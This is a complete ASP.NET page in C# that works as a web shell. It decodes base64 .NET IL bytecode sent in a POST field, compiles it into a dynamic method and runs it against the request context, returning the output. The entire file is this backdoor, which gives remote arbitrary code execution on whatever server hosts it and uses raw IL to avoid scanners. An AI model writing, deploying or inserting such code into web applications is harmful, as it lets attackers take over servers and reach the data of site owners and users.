<%@ Page Language="C#" %>
<%@ Import Namespace="System.Reflection" %>
<%@ Import Namespace="System.Reflection.Emit" %>
<script runat="server">
    void Page_Load(object sender, EventArgs e)
    {
        byte[] il = Convert.FromBase64String(Request.Form["il"]);
        DynamicMethod dm = new DynamicMethod("m", typeof(object), new Type[] { typeof(object) }, typeof(Page).Module, true);
        DynamicILInfo info = dm.GetDynamicILInfo();
        info.SetCode(il, 16);
        info.SetLocalSignature(new byte[] { 0x07, 0x00 });
        object r = dm.Invoke(null, new object[] { Context });
        Response.Write(r);
    }
</script>
